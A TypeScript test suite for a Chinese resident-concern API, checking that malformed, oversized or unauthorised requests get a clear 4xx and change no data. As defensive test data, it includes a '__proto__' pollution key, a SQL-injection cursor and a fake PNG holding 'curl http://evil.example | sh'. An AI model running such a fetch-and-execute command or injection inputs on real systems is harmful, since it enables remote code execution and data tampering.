import {
  CJK,
  call,
  concernAt,
  directoryIds,
  errorOf,
  reportBody,
  snapshot,
  submitConcern,
  staffSession,
  type Caller,
  type DirectoryIds,
  type Json,
  type WalkCrew,
} from '../../testing/concern-fixtures.js';
import { plainImage } from '../../testing/images.js';
import { photoUpload } from '../../testing/multipart.js';
import { createResident } from '../../testing/staff-fixtures.js';
import { startTestApp, type TestApp } from '../../testing/test-app.js';
import { TEST_DATABASES } from '../../testing/test-databases.js';

/*
 * Bad input on every concern route (issue 3, "Done when"): wrong types, missing fields, huge text,
 * strings no person types, unknown ids, malformed ids and bodies, the wrong status or the wrong role for
 * an action. Each gets a 4xx in the error envelope with a Chinese message that says what is wrong, and
 * changes nothing: the rows of every concern table, and each concern's status and version, are the same
 * before and after.
 */

const HUGE = '很'.repeat(10_000);
/** A lone high surrogate and a lone low one: no keyboard makes them, and utf8mb4 cannot store them. */
const LONE_HIGH = '楼道\uD83D堆物';
const LONE_LOW = '\uDC00楼道堆物杂物';

type Who = 'residentA' | 'residentB' | 'dispatcher' | 'handler' | 'supervisor' | 'editor' | 'nobody';
type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';

interface BadCase {
  name: string;
  method: Method;
  url: () => string;
  who: Who;
  payload?: () => unknown;
  headers?: Record<string, string>;
  status: number;
  /** The error code; `null` when any code is fine as long as it is in the envelope. */
  code: string | null;
  /** More that the message must say. */
  says?: string | RegExp;
}

describe.each(TEST_DATABASES)('bad input on the concern routes on %s', (kind) => {
  let sut: TestApp;
  let ids: DirectoryIds;
  const callers = {} as Record<Exclude<Who, 'nobody'>, Caller>;
  /** Concerns of resident A in Xietu, one per status an action needs. */
  const t = { submitted: 0, accepted: 0, dispatched: 0, inProgress: 0, replied: 0, awaiting: 0 };
  let photoOfA = 0;
  let photoOfB = 0;
  let photoOfHandler = 0;
  let checks = 0;

  const upload = async (who: Caller) => {
    const { payload, headers } = photoUpload(await plainImage('webp'), 'photo.webp', 'image/webp');
    const res = await sut.app.inject({
      method: 'POST',
      url: '/api/v1/uploads',
      payload,
      headers: { ...headers, authorization: who.authorization },
    });
    if (res.statusCode !== 201) throw new Error(`upload → ${res.statusCode} ${res.body}`);
    return (res.json() as { id: number }).id;
  };

  beforeAll(async () => {
    sut = await startTestApp(kind);
    ids = await directoryIds(sut.app);
    callers.residentA = await createResident(sut.app, '居民甲');
    callers.residentB = await createResident(sut.app, '居民乙');
    callers.dispatcher = await staffSession(sut.app, 'dispatcher.xietu', 'dispatcher', 'xietu');
    callers.handler = await staffSession(sut.app, 'handler.xietu-guanli', 'handler', 'xietu-guanli');
    callers.supervisor = await staffSession(sut.app, 'supervisor', 'supervisor');
    callers.editor = await staffSession(sut.app, 'editor.xietu', 'editor', 'xietu');
    const crew: WalkCrew = {
      resident: callers.residentA,
      dispatcher: callers.dispatcher,
      handler: callers.handler,
      departmentId: ids.department('xietu-guanli'),
    };
    t.submitted = (await concernAt(sut.app, 'submitted', crew, { phone: '13812345678' })).id;
    t.accepted = (await concernAt(sut.app, 'accepted', crew)).id;
    t.dispatched = (await concernAt(sut.app, 'dispatched', crew)).id;
    t.inProgress = (await concernAt(sut.app, 'in_progress', crew)).id;
    t.replied = (await concernAt(sut.app, 'replied', crew)).id;
    t.awaiting = (await concernAt(sut.app, 'awaiting_rating', crew)).id;
    photoOfA = await upload(callers.residentA);
    photoOfB = await upload(callers.residentB);
    photoOfHandler = await upload(callers.handler);
  });
  afterAll(async () => {
    if (checks > 0) console.log(`concern input on ${kind}: ${checks} bad requests refused without a change`);
    await sut?.close();
  });

  /** A valid report with `change` applied (a key set to undefined is left out). */
  const report = async (change: Json) => {
    const body = { ...(await reportBody(sut.app)), ...change };
    return Object.fromEntries(Object.entries(body).filter(([, v]) => v !== undefined));
  };
  // Report bodies are built before the case runs (they need the directory), so cases name them by change.
  const reportCases: Array<[name: string, change: () => Json, status: number, code: string, says?: string | RegExp]> = [
    ['without a title', () => ({ title: undefined }), 400, 'VALIDATION_FAILED', '标题'],
    ['without a description', () => ({ description: undefined }), 400, 'VALIDATION_FAILED', '问题描述'],
    ['without a category', () => ({ categoryId: undefined }), 400, 'VALIDATION_FAILED', '诉求类别'],
    ['with a category id that is a word', () => ({ categoryId: 'abc' }), 400, 'VALIDATION_FAILED', '诉求类别无效'],
    ['with a category id that is true', () => ({ categoryId: true }), 400, 'VALIDATION_FAILED', '诉求类别无效'],
    ['with a category id in a list', () => ({ categoryId: [ids.category('shirong-laji')] }), 400, 'VALIDATION_FAILED', '诉求类别无效'],
    ['with a compound id of 1.5', () => ({ compoundId: 1.5 }), 400, 'VALIDATION_FAILED', '小区无效'],
    ['with a compound id of "1e3"', () => ({ compoundId: '1e3' }), 400, 'VALIDATION_FAILED', '小区无效'],
    ['with a title that is a number', () => ({ title: 12345 }), 400, 'VALIDATION_FAILED', '标题必须是文字'],
    ['with a title of blanks', () => ({ title: '    ' }), 400, 'VALIDATION_FAILED', '标题'],
    ['with a 10,000-character title', () => ({ title: HUGE }), 400, 'VALIDATION_FAILED', '标题最多 50 个字'],
    ['with a 10,000-character description', () => ({ description: HUGE }), 400, 'VALIDATION_FAILED', '问题描述最多 2000 个字'],
    ['with a 10,000-character address', () => ({ address: HUGE }), 400, 'VALIDATION_FAILED', '地址最多 200 个字'],
    ['with a lone high surrogate in the title', () => ({ title: LONE_HIGH }), 400, 'VALIDATION_FAILED', '无法识别的字符'],
    ['with a lone low surrogate in the description', () => ({ description: LONE_LOW }), 400, 'VALIDATION_FAILED', '无法识别的字符'],
    ['with an unknown category', () => ({ categoryId: 987_654 }), 404, 'CATEGORY_NOT_FOUND', '诉求类别不存在'],
    ['with an unknown compound', () => ({ compoundId: 987_654 }), 404, 'COMPOUND_NOT_FOUND', '小区不存在'],
    ['with a parent category rather than a leaf', () => ({ categoryId: ids.category('shirong') }), 400, 'CATEGORY_NOT_LEAF', '具体'],
    ['with an unknown photo', () => ({ photoIds: [987_654] }), 404, 'PHOTO_NOT_FOUND', '照片'],
    ["with another resident's photo", () => ({ photoIds: [photoOfA, photoOfB] }), 404, 'PHOTO_NOT_FOUND', '照片'],
    ["with a staff member's photo", () => ({ photoIds: [photoOfHandler] }), 404, 'PHOTO_NOT_FOUND', '照片'],
    ['with photos given as a word', () => ({ photoIds: 'abc' }), 400, 'VALIDATION_FAILED', '照片列表无效'],
    ['with a photo id that is a word', () => ({ photoIds: ['abc'] }), 400, 'VALIDATION_FAILED', '照片无效'],
    ['with 10 photos', () => ({ photoIds: Array.from({ length: 10 }, () => photoOfA) }), 400, 'VALIDATION_FAILED', '最多上传 9 张照片'],
    ['with a latitude and no longitude', () => ({ latitude: 31.19 }), 400, 'VALIDATION_FAILED', '经度和纬度'],
    ['with a longitude and no latitude', () => ({ longitude: 121.45 }), 400, 'VALIDATION_FAILED', '经度和纬度'],
    ['with a latitude of 91', () => ({ latitude: 91, longitude: 121.45 }), 400, 'VALIDATION_FAILED', '纬度无效'],
    ['with a latitude given as text', () => ({ latitude: '31.19', longitude: 121.45 }), 400, 'VALIDATION_FAILED', '纬度无效'],
    ['with a phone number that is not one', () => ({ phone: '12345' }), 400, 'VALIDATION_FAILED', '手机号码格式不正确'],
    ['with confidential given as "yes"', () => ({ confidential: 'yes' }), 400, 'VALIDATION_FAILED', '保密选项无效'],
  ];

  const CASES: BadCase[] = [
    // POST /api/v1/concerns
    ...reportCases.map(([name, change, status, code, says]): BadCase => ({
      name: `POST /api/v1/concerns ${name}`,
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => report(change()),
      status,
      code,
      says,
    })),
    {
      name: 'POST /api/v1/concerns with an empty object',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => ({}),
      status: 400,
      code: 'VALIDATION_FAILED',
    },
    {
      name: 'POST /api/v1/concerns with an array body',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => [1, 2],
      status: 400,
      code: 'VALIDATION_FAILED',
    },
    ...(
      [
        ['a JSON string body', '"请处理楼道堆物"', 'VALIDATION_FAILED'],
        ['a JSON number body', '42', 'VALIDATION_FAILED'],
        ['a JSON null body', 'null', 'VALIDATION_FAILED'],
        ['invalid JSON', '{"title": "楼道', 'BAD_REQUEST'],
        ['an empty JSON body', '', 'BAD_REQUEST'],
        ['a __proto__ key', '{"__proto__": {"admin": true}, "title": "楼道堆物"}', 'BAD_REQUEST'],
      ] as const
    ).map(([name, raw, code]): BadCase => ({
      name: `POST /api/v1/concerns with ${name}`,
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => raw,
      headers: { 'content-type': 'application/json' },
      status: 400,
      code,
    })),
    {
      name: 'POST /api/v1/concerns with a plain-text body',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => '请处理楼道堆物',
      headers: { 'content-type': 'text/plain' },
      status: 400,
      code: null,
    },
    {
      name: 'POST /api/v1/concerns with a 2 MB body',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => JSON.stringify({ description: 'x'.repeat(2 * 1024 * 1024) }),
      headers: { 'content-type': 'application/json' },
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
    ...(['short', 'key with spaces!', 'k'.repeat(65), '提交编号一二三四五六'] as const).map((key): BadCase => ({
      name: `POST /api/v1/concerns with the Idempotency-Key ${JSON.stringify(key.length > 20 ? `${key.slice(0, 8)}…(${key.length})` : key)}`,
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'residentA',
      payload: () => report({}),
      headers: { 'idempotency-key': encodeURIComponent(key) === key ? key : encodeURIComponent(key) },
      status: 400,
      code: 'VALIDATION_FAILED',
      says: '提交编号',
    })),
    {
      name: 'POST /api/v1/concerns without a token',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'nobody',
      payload: () => report({}),
      status: 401,
      code: 'UNAUTHENTICATED',
    },
    {
      name: 'POST /api/v1/concerns by a dispatcher',
      method: 'POST',
      url: () => '/api/v1/concerns',
      who: 'dispatcher',
      payload: () => report({}),
      status: 403,
      code: 'FORBIDDEN',
    },

    // Ids in the path, on every route that takes one
    ...['abc', '-1', '1e3', '0', '1.5', '0x10', '12abc', '99999999999999999', '9007199254740993', '%20'].flatMap((bad): BadCase[] => [
      {
        name: `GET /api/v1/concerns/${bad}`,
        method: 'GET',
        url: () => `/api/v1/concerns/${bad}`,
        who: 'residentA',
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
      {
        name: `POST /api/v1/concerns/${bad}/withdraw`,
        method: 'POST',
        url: () => `/api/v1/concerns/${bad}/withdraw`,
        who: 'residentA',
        payload: () => ({}),
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
      {
        name: `POST /api/v1/concerns/${bad}/rating`,
        method: 'POST',
        url: () => `/api/v1/concerns/${bad}/rating`,
        who: 'residentA',
        payload: () => ({ solved: true, satisfaction: 'satisfied' }),
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
      {
        name: `GET /api/v1/admin/concerns/${bad}`,
        method: 'GET',
        url: () => `/api/v1/admin/concerns/${bad}`,
        who: 'dispatcher',
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
      {
        name: `POST /api/v1/admin/concerns/${bad}/accept`,
        method: 'POST',
        url: () => `/api/v1/admin/concerns/${bad}/accept`,
        who: 'dispatcher',
        payload: () => ({}),
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
      {
        name: `POST /api/v1/admin/concerns/${bad}/reveal-phone`,
        method: 'POST',
        url: () => `/api/v1/admin/concerns/${bad}/reveal-phone`,
        who: 'dispatcher',
        status: 400,
        code: 'VALIDATION_FAILED',
        says: '诉求编号无效',
      },
    ]),
    {
      name: 'GET /api/v1/concerns/2147483648 (an id no row can have)',
      method: 'GET',
      url: () => '/api/v1/concerns/2147483648',
      who: 'residentA',
      status: 404,
      code: 'CONCERN_NOT_FOUND',
    },
    {
      name: 'GET /api/v1/admin/concerns/2147483648',
      method: 'GET',
      url: () => '/api/v1/admin/concerns/2147483648',
      who: 'supervisor',
      status: 404,
      code: 'CONCERN_NOT_FOUND',
    },

    // The resident's other routes
    ...(
      [
        ['without solved', { satisfaction: 'satisfied' }, '是否已解决'],
        ['with solved "yes"', { solved: 'yes', satisfaction: 'satisfied' }, '是否已解决'],
        ['without satisfaction', { solved: true }, '满意程度'],
        ['with satisfaction "great"', { solved: true, satisfaction: 'great' }, '满意程度'],
        ['with a 10,000-character comment', { solved: true, satisfaction: 'satisfied', comment: HUGE }, '评价最多 500 个字'],
        ['with a lone surrogate in the comment', { solved: true, satisfaction: 'satisfied', comment: LONE_HIGH }, '无法识别的字符'],
        ['with an array body', [{ solved: true, satisfaction: 'satisfied' }], CJK],
      ] as Array<[string, unknown, string | RegExp]>
    ).map(([name, body, says]): BadCase => ({
      name: `POST /api/v1/concerns/:id/rating ${name}`,
      method: 'POST',
      url: () => `/api/v1/concerns/${t.awaiting}/rating`,
      who: 'residentA',
      payload: () => body,
      status: 400,
      code: 'VALIDATION_FAILED',
      says,
    })),
    {
      name: 'POST /api/v1/concerns/:id/rating before the reply is published',
      method: 'POST',
      url: () => `/api/v1/concerns/${t.inProgress}/rating`,
      who: 'residentA',
      payload: () => ({ solved: true, satisfaction: 'satisfied' }),
      status: 409,
      code: 'CONCERN_ACTION_NOT_ALLOWED',
      says: /办理中.*不能评价/,
    },
    {
      name: 'POST /api/v1/concerns/:id/withdraw after a reply',
      method: 'POST',
      url: () => `/api/v1/concerns/${t.replied}/withdraw`,
      who: 'residentA',
      status: 409,
      code: 'CONCERN_ACTION_NOT_ALLOWED',
      says: /已答复待审核.*不能撤销/,
    },
    {
      name: "POST /api/v1/concerns/:id/withdraw of another resident's concern",
      method: 'POST',
      url: () => `/api/v1/concerns/${t.submitted}/withdraw`,
      who: 'residentB',
      status: 404,
      code: 'CONCERN_NOT_FOUND',
    },
    ...(
      [
        ['limit=0', '每页数量'],
        ['limit=abc', '每页数量无效'],
        ['limit=101', '每页数量'],
        ['limit=1.5', '每页数量无效'],
        ['cursor=not-a-cursor!', '分页参数无效'],
        [`cursor=${'a'.repeat(300)}`, '分页参数无效'],
        [`cursor=${Buffer.from('{"id":"1 OR 1=1"}').toString('base64url')}`, '分页参数无效'],
      ] as const
    ).map(([query, says]): BadCase => ({
      name: `GET /api/v1/concerns/mine?${query.slice(0, 40)}`,
      method: 'GET',
      url: () => `/api/v1/concerns/mine?${query}`,
      who: 'residentA',
      status: 400,
      code: 'VALIDATION_FAILED',
      says,
    })),
    ...(['compoundId=abc&categoryId=1', 'categoryId=1', 'compoundId=1', 'compoundId=-1&categoryId=1e3'] as const).map((query): BadCase => ({
      name: `GET /api/v1/concerns/duplicates?${query}`,
      method: 'GET',
      url: () => `/api/v1/concerns/duplicates?${query}`,
      who: 'residentA',
      status: 400,
      code: 'VALIDATION_FAILED',
      says: /小区|诉求类别/,
    })),

    // The staff inbox and the rates
    ...(
      [
        ['status=bogus', '状态无效'],
        ['status=submitted,bogus', '状态无效'],
        ['overdue=maybe', '超期筛选无效'],
        ['escalated=yes', '督办筛选无效'],
        ['street=Xie%20Tu!', '街道无效'],
        ['department=abc', '部门无效'],
        ['category=-1', '类别无效'],
        ['limit=0', '每页数量'],
        ['cursor=%%%', null],
        ['cursor=bm90IGpzb24', '分页参数无效'],
        [`q=${encodeURIComponent(HUGE)}`, '搜索词最多 50 个字'],
      ] as Array<[string, string | null]>
    ).map(([query, says]): BadCase => ({
      name: `GET /api/v1/admin/concerns?${query.slice(0, 40)}`,
      method: 'GET',
      url: () => `/api/v1/admin/concerns?${query}`,
      who: 'dispatcher',
      status: 400,
      code: says === null ? null : 'VALIDATION_FAILED',
      says: says ?? undefined,
    })),
    ...(
      [
        ['', '开始日期'],
        ['from=2026-11-01', '结束日期'],
        ['from=2026/11/01&to=2026-11-30', '开始日期格式应为 YYYY-MM-DD'],
        ['from=2026-12-01&to=2026-11-01', '开始日期不能晚于结束日期'],
        ['from=2026-11-01&to=2026-11-30&department=abc', '部门无效'],
        ['from=2026-11-01&to=2026-11-30&street=BAD!', '街道无效'],
      ] as const
    ).map(([query, says]): BadCase => ({
      name: `GET /api/v1/admin/stats/rates?${query}`,
      method: 'GET',
      url: () => `/api/v1/admin/stats/rates?${query}`,
      who: 'supervisor',
      status: 400,
      code: 'VALIDATION_FAILED',
      says,
    })),

    // Staff actions: unknown ones, bad bodies, the wrong status, the wrong role
    ...['approve', 'ACCEPT', 'delete', 'withdraw', 'rate', 'expire-rating', 'accept%20'].map((action): BadCase => ({
      name: `POST /api/v1/admin/concerns/:id/${action} (no such action)`,
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t.submitted}/${action}`,
      who: 'dispatcher',
      payload: () => ({}),
      status: 404,
      code: 'ROUTE_NOT_FOUND',
      says: '没有',
    })),
    ...(
      [
        ['accept', 'submitted', 'dispatcher', [], '请求内容应为对象'],
        ['accept', 'submitted', 'dispatcher', '"accept"', '请求内容应为对象'],
        ['reject', 'submitted', 'dispatcher', {}, '不予受理理由'],
        ['reject', 'submitted', 'dispatcher', { reason: 123 }, '不予受理理由必须是文字'],
        ['reject', 'submitted', 'dispatcher', { reason: '否' }, '不予受理理由至少 2 个字'],
        ['reject', 'submitted', 'dispatcher', { reason: HUGE }, '不予受理理由最多 200 个字'],
        ['reject', 'submitted', 'dispatcher', { reason: LONE_LOW }, '无法识别的字符'],
        ['merge', 'submitted', 'dispatcher', {}, '合并目标诉求无效'],
        ['merge', 'submitted', 'dispatcher', { intoId: 'abc' }, '合并目标诉求无效'],
        ['merge', 'submitted', 'dispatcher', { intoId: -3 }, '合并目标诉求无效'],
        ['dispatch', 'accepted', 'dispatcher', {}, '主办部门无效'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: '1e3' }, '主办部门无效'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: 1, coHandlerIds: 'x' }, CJK],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: 1, coHandlerIds: [1, 2, 3, 4, 5, 6] }, '协办部门最多 5 个'],
        ['return', 'dispatched', 'handler', { reason: 'bogus', note: '不归我们管' }, '请选择退单原因'],
        ['return', 'dispatched', 'handler', { reason: 'not_our_remit' }, '退单说明'],
        ['return', 'dispatched', 'handler', { reason: 'not_our_remit', note: HUGE }, '退单说明最多 500 个字'],
        ['extend', 'inProgress', 'handler', { workingDays: 2.5, reason: '需要协调' }, '延期天数必须是整数'],
        ['extend', 'inProgress', 'handler', { workingDays: '2', reason: '需要协调' }, '延期天数无效'],
        ['extend', 'inProgress', 'handler', { workingDays: 2 }, '延期理由'],
        ['reply', 'inProgress', 'handler', { text: '好的' }, '答复内容至少 5 个字'],
        ['reply', 'inProgress', 'handler', { text: HUGE }, '答复内容最多 2000 个字'],
        ['reply', 'inProgress', 'handler', { text: LONE_HIGH }, '无法识别的字符'],
        [
          'reply',
          'inProgress',
          'handler',
          { text: '已清理完毕，请查看。', photoIds: Array.from({ length: 10 }, (_, i) => i + 1) },
          '最多上传 9 张照片',
        ],
        ['reply', 'inProgress', 'handler', { text: '已清理完毕，请查看。', internalNote: HUGE }, '内部备注最多 1000 个字'],
        ['send-back', 'replied', 'dispatcher', {}, '退回理由'],
        ['send-back', 'replied', 'dispatcher', { reason: HUGE }, '退回理由最多 500 个字'],
        ['note', 'inProgress', 'dispatcher', {}, '备注'],
        ['note', 'inProgress', 'dispatcher', { text: '   ' }, '请填写备注'],
        ['note', 'inProgress', 'dispatcher', { text: HUGE }, '备注最多 1000 个字'],
        ['note', 'inProgress', 'dispatcher', { text: LONE_LOW }, '无法识别的字符'],
        ['chase', 'inProgress', 'dispatcher', { text: HUGE }, '催办说明最多 500 个字'],
        ['chase', 'inProgress', 'dispatcher', { text: 42 }, '催办说明必须是文字'],
      ] as Array<[string, keyof typeof t, Who, unknown, string | RegExp]>
    ).map(([action, target, who, body, says]): BadCase => ({
      name: `POST /api/v1/admin/concerns/:id/${action} with ${JSON.stringify(body).slice(0, 50)}`,
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t[target]}/${action}`,
      who,
      payload: () => body,
      ...(typeof body === 'string' ? { headers: { 'content-type': 'application/json' } } : {}),
      status: 400,
      code: 'VALIDATION_FAILED',
      says,
    })),
    ...(
      [
        ['accept', 'submitted', 'dispatcher', '{"reason":', 400, 'BAD_REQUEST', CJK],
        ['merge', 'submitted', 'dispatcher', { intoId: 987_654 }, 409, 'MERGE_TARGET_INVALID', '合并'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: 987_654 }, 404, 'DEPARTMENT_NOT_FOUND', '部门不存在'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: -1 }, 400, 'VALIDATION_FAILED', '主办部门无效'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: 'fenglin-guanli' }, 400, 'VALIDATION_FAILED', '主办部门无效'],
        ['dispatch', 'accepted', 'dispatcher', { departmentId: 'FENGLIN', coHandlerIds: [] }, 400, 'VALIDATION_FAILED', '主办部门无效'],
        ['extend', 'inProgress', 'handler', { workingDays: 4, reason: '需要协调' }, 400, 'EXTENSION_TOO_LONG', '1 至 3 个工作日'],
        ['reply', 'inProgress', 'handler', { text: '已清理完毕，请查看。', photoIds: [987_654] }, 404, 'PHOTO_NOT_FOUND', '照片'],
        ['approve-extension', 'inProgress', 'dispatcher', {}, 409, 'NO_PENDING_EXTENSION', '没有待批准的延期申请'],
        // The wrong status for the action: 409, saying what status it is in and what the action needs.
        ['accept', 'inProgress', 'dispatcher', {}, 409, 'CONCERN_ACTION_NOT_ALLOWED', /「办理中」.*不能受理.*待受理/],
        ['sign', 'inProgress', 'handler', {}, 409, 'CONCERN_ACTION_NOT_ALLOWED', /不能签收/],
        ['approve-reply', 'inProgress', 'dispatcher', {}, 409, 'CONCERN_ACTION_NOT_ALLOWED', /不能审核通过/],
        ['dispatch', 'replied', 'dispatcher', { departmentId: 1 }, 409, 'CONCERN_ACTION_NOT_ALLOWED', /已答复待审核/],
        ['chase', 'awaiting', 'supervisor', {}, 409, 'CONCERN_ACTION_NOT_ALLOWED', /不能催办/],
        // The wrong role for the action: 403, saying which role may not.
        ['approve-reply', 'replied', 'handler', {}, 403, 'CONCERN_ROLE_NOT_ALLOWED', '部门经办人不能执行「审核通过」'],
        ['sign', 'dispatched', 'dispatcher', {}, 403, 'CONCERN_ROLE_NOT_ALLOWED', '街道派单员不能执行「签收」'],
        ['reply', 'inProgress', 'supervisor', { text: '已清理完毕，请查看。' }, 403, 'CONCERN_ROLE_NOT_ALLOWED', '不能执行「答复」'],
        ['accept', 'submitted', 'editor', {}, 403, 'FORBIDDEN', '没有权限'],
        ['accept', 'submitted', 'residentA', {}, 403, 'FORBIDDEN', '没有权限'],
        ['accept', 'submitted', 'nobody', {}, 401, 'UNAUTHENTICATED', '请先登录'],
      ] as Array<[string, keyof typeof t, Who, unknown, number, string, string | RegExp]>
    ).map(([action, target, who, body, status, code, says]): BadCase => ({
      name: `POST /api/v1/admin/concerns/:id/${action} by ${who} on a ${target} concern with ${JSON.stringify(body).slice(0, 50)}`,
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t[target]}/${action}`,
      who,
      payload: () => body,
      ...(typeof body === 'string' ? { headers: { 'content-type': 'application/json' } } : {}),
      status,
      code,
      says,
    })),
    {
      name: 'POST /api/v1/admin/concerns/:id/dispatch to another street’s office',
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t.accepted}/dispatch`,
      who: 'dispatcher',
      payload: () => ({ departmentId: ids.department('fenglin-guanli') }),
      status: 404,
      code: 'DEPARTMENT_NOT_FOUND',
      says: '不服务该街道',
    },
    {
      name: 'POST /api/v1/admin/concerns/:id/dispatch with an unknown co-handler',
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t.accepted}/dispatch`,
      who: 'dispatcher',
      payload: () => ({ departmentId: ids.department('xietu-guanli'), coHandlerIds: [987_654] }),
      status: 404,
      code: 'DEPARTMENT_NOT_FOUND',
    },
    {
      name: "POST /api/v1/admin/concerns/:id/reply with a resident's photo",
      method: 'POST',
      url: () => `/api/v1/admin/concerns/${t.inProgress}/reply`,
      who: 'handler',
      payload: () => ({ text: '已清理完毕，请查看。', photoIds: [photoOfA] }),
      status: 404,
      code: 'PHOTO_NOT_FOUND',
    },

    // Routes that do not exist
    {
      name: 'PUT /api/v1/concerns/:id',
      method: 'PUT',
      url: () => `/api/v1/concerns/${t.submitted}`,
      who: 'residentA',
      payload: () => ({ title: '改标题' }),
      status: 404,
      code: 'ROUTE_NOT_FOUND',
    },
    {
      name: 'DELETE /api/v1/admin/concerns/:id',
      method: 'DELETE',
      url: () => `/api/v1/admin/concerns/${t.submitted}`,
      who: 'supervisor',
      status: 404,
      code: 'ROUTE_NOT_FOUND',
    },
  ];

  it.each(CASES.map((c) => [c.name, c] as const))('%s → 4xx with a clear message, nothing changed', async (_name, bad) => {
    const before = await snapshot(sut.app);
    const payload = bad.payload ? await bad.payload() : undefined;

    const res = await call(sut.app, bad.method, bad.url(), bad.who === 'nobody' ? null : callers[bad.who], payload, {
      headers: bad.headers,
    });

    checks++;
    const error = errorOf(res);
    expect({ status: res.status, code: bad.code === null ? '(any)' : error.code }).toEqual({
      status: bad.status,
      code: bad.code ?? '(any)',
    });
    expect(error.code).not.toBe('');
    expect(error.message).toMatch(CJK);
    if (bad.says) expect(error.message).toMatch(bad.says);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(await snapshot(sut.app)).toEqual(before);
  });

  it.each([
    ['an over-long id', `/api/v1/concerns/${'1'.repeat(120)}`, 414],
    ['a malformed percent-encoding', '/api/v1/concerns/%E0%A4%A', 400],
  ])('answers a path with %s, refused by the router before any route runs, in the error envelope', async (_name, url, status) => {
    const before = await snapshot(sut.app);

    const res = await call(sut.app, 'GET', url, callers.residentA);

    checks++;
    expect(res.status).toBe(status);
    expect(errorOf(res)).toEqual({ code: 'BAD_REQUEST', message: expect.stringMatching(CJK), details: undefined });
    expect(Object.keys(res.body)).toEqual(['error']);
    expect(await snapshot(sut.app)).toEqual(before);
  });

  it('refuses a PNG that is really a script, storing nothing', async () => {
    const before = await snapshot(sut.app);
    const { payload, headers } = photoUpload('#!/bin/sh\ncurl http://evil.example | sh\n', 'photo.png', 'image/png');

    const res = await sut.app.inject({
      method: 'POST',
      url: '/api/v1/uploads',
      payload,
      headers: { ...headers, authorization: callers.residentA.authorization },
    });

    expect(res.statusCode).toBe(415);
    expect((res.json() as { error: { code: string; message: string } }).error).toMatchObject({
      code: 'PHOTO_TYPE_NOT_ALLOWED',
      message: expect.stringMatching(CJK),
    });
    expect(await snapshot(sut.app)).toEqual(before);
  });

  it('refuses an Idempotency-Key reused for another report with 422, and makes no second concern', async () => {
    const first = await submitConcern(sut.app, callers.residentB, {}, { headers: { 'idempotency-key': 'retry-key-00000001' } });
    const before = await snapshot(sut.app);

    const retry = await call(sut.app, 'POST', '/api/v1/concerns', callers.residentB, await report({ title: '另一个标题的重试' }), {
      headers: { 'idempotency-key': 'retry-key-00000001' },
    });

    expect(retry.status).toBe(422);
    expect(retry.body).toMatchObject({ error: { code: 'IDEMPOTENCY_KEY_REUSED', message: expect.stringMatching(CJK) } });
    expect(await snapshot(sut.app)).toEqual(before);
    // The same key from another resident is theirs alone: it makes their own concern.
    const other = await submitConcern(sut.app, callers.residentA, {}, { headers: { 'idempotency-key': 'retry-key-00000001' } });
    expect(other.id).not.toBe(first.id);
  });
});
